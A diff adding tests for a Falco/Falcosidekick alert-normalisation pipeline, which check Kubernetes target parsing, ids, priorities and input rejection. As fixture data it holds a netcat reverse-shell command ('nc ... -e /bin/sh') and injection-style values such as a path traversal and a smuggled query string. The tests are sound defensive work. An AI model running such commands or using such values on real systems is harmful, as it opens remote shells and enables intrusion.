@@ -1,0 +1,125 @@
+import fc from 'fast-check';
+
+import { alertSchema } from '../../core/alert/alert';
+import { parseLossless } from '../../core/alert/json';
+import { normaliseAlert } from '../../core/alert/normalise';
+import { parsePriority } from '../../core/alert/priority';
+import { visible } from '../../core/alert/text';
+import { PipelineError } from '../../core/errors';
+import { ALERT_NAMES, alertOf, payload, payloadText, RECEIVED_AT } from '../support/alerts';
+
+const read = (body: unknown) => normaliseAlert(body, RECEIVED_AT, 'kernel');
+
+describe('a Falcosidekick alert', () => {
+  test('becomes an alert with target, tags and time', () => {
+    const alert = read(payload('pod-delete-test'));
+    expect(alert).toMatchObject({
+      id: '7b1f0c8e-5d1c-4b42-9f0a-0d5a4b0a9c11',
+      source: 'falco',
+      trust: 'kernel',
+      rule: 'Netcat Remote Code Execution in Container',
+      priority: 'warning',
+      time: '2026-11-21T10:15:30.123Z',
+      receivedAt: '2026-11-21T10:15:31.000Z',
+      target: { namespace: 'playground', pod: 'pod-delete-test', podUid: '00000000-0000-4000-8000-000000000000', container: 'shell', image: 'docker.io/library/busybox:1.37.0' },
+      targetProblem: null,
+    });
+    expect(alert.fields['proc.cmdline']).toBe('nc 1.1.1.1 4444 -e /bin/sh');
+  });
+
+  test.each(ALERT_NAMES)('%s is valid by the schema that every node reads with', (name) => {
+    expect(alertSchema.parse(alertOf(name))).toEqual(alertOf(name));
+  });
+
+  test('keeps numbers beyond 2^53 digit by digit', () => {
+    expect(payloadText('pod-delete-test')).toContain('"evt.time": 1795083330123456789');
+    expect(read(parseLossless(payloadText('pod-delete-test'))).fields['evt.time']).toBe('1795083330123456789');
+  });
+
+  test('says where the code lives when custom fields do', () => {
+    const { infrastructure } = read(payload('pod-delete-test', {}, { git_repo: 'https://example.com/a/b', pulumi_stack: 'prod', other: 'x' }));
+    expect(infrastructure).toEqual({ git_repo: 'https://example.com/a/b', pulumi_stack: 'prod' });
+  });
+
+  test('keeps its id when it is sent again, with or without a uuid', () => {
+    expect(read(payload('test-shell')).id).toBe(read(payload('test-shell')).id);
+    const anonymous = payload('test-shell', { uuid: undefined });
+    expect(read(anonymous).id).toBe(read(anonymous).id);
+    expect(read(anonymous).id).not.toBe(read(payload('escalate-test', { uuid: undefined })).id);
+  });
+
+  test('takes no id that is not a uuid', () => {
+    expect(read(payload('test-shell', { uuid: '"} | drop' })).id).toMatch(/^[0-9a-f]{32}$/);
+  });
+
+  test('has the same fingerprint for the same rule on the same pod only', () => {
+    const { fingerprint } = read(payload('test-shell'));
+    expect(read(payload('test-shell', { time: '2026-11-21T11:00:00Z' })).fingerprint).toBe(fingerprint);
+    expect(read(payload('test-shell', { rule: 'Other' })).fingerprint).not.toBe(fingerprint);
+  });
+});
+
+describe('a target is unknown', () => {
+  test.each<[string, Record<string, unknown>]>([
+    ['a control character in the pod name', { 'k8s.pod.name': 'web\u0007' }],
+    ['a path in the pod name', { 'k8s.pod.name': '../../secrets' }],
+    ['a query in the namespace', { 'k8s.ns.name': 'a?dryRun=All' }],
+    ['a uid that is none', { 'k8s.pod.uid': 'x' }],
+    ['null', { 'k8s.pod.name': null }],
+    ['<NA>', { 'k8s.ns.name': '<NA>' }],
+    ['an empty text', { 'k8s.pod.name': '' }],
+    ['a number', { 'k8s.pod.name': 7 }],
+  ])('for %s', (_what, fields) => {
+    const alert = read(payload('pod-delete-test', {}, fields));
+    expect(alert.target).toBeNull();
+    expect(alert.targetProblem).not.toBeNull();
+  });
+
+  test('for output_fields null', () => {
+    expect(read({ ...payload(), output_fields: null }).target).toBeNull();
+  });
+});
+
+test('a priority nobody knows is kept as unknown', () => {
+  expect(read(payload('test-shell', { priority: 'Apocalyptic' })).priority).toBe('unknown');
+  expect(parsePriority(' INFO ')).toBe('informational');
+});
+
+describe('what is not an alert is refused with the reason', () => {
+  test.each<[unknown, RegExp]>([
+    [null, /not a JSON object/],
+    ['text', /not a JSON object/],
+    [[payload()], /not a JSON object/],
+    [{}, /not an alert of a known source \(Falcosidekick\)/],
+    [payload('test-shell', { rule: '' }), /rule/],
+    [payload('test-shell', { time: 'yesterday' }), /time/],
+    [payload('test-shell', { time: undefined }), /time/],
+    [payload('test-shell', { tags: 'a,b' }), /tags/],
+    [{ ...payload('test-shell'), output_fields: [] }, /output_fields/],
+  ])('%#', (body, reason) => {
+    expect(() => read(body)).toThrow(reason);
+    expect(() => read(body)).toThrow(PipelineError);
+  });
+});
+
+test('any JSON is an alert or refused; a target’s names are always Kubernetes names', () => {
+  const fields = fc.dictionary(fc.constantFrom('k8s.ns.name', 'k8s.pod.name', 'k8s.pod.uid', 'proc.cmdline', 'git_repo', '__proto__'), fc.jsonValue());
+  const bodies = fc.oneof(fc.jsonValue(), fc.record({ rule: fc.string(), priority: fc.string(), time: fc.constant('2026-01-01T00:00:00Z'), output: fc.string(), output_fields: fields }));
+  fc.assert(
+    fc.property(bodies, (body) => {
+      try {
+        const alert = read(body);
+        expect(alertSchema.safeParse(alert).success).toBe(true);
+        expect(alert.target === null || /^[a-z0-9.-]+$/.test(alert.target.namespace + alert.target.pod)).toBe(true);
+      } catch (error) {
+        expect(error).toBeInstanceOf(PipelineError);
+      }
+    }),
+  );
+});
+
+test('deceptive characters become visible and long texts are cut', () => {
+  expect(visible('a\u202Eb\u0000c\nd', 100)).toBe('a\\u{202e}b\\u{0}c\\u{a}d');
+  expect(visible('x'.repeat(50), 10)).toBe(`${'x'.repeat(10)}[…]`);
+  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => !/[\p{Cc}\p{Cf}]/u.test(visible(text, 1000))));
+});
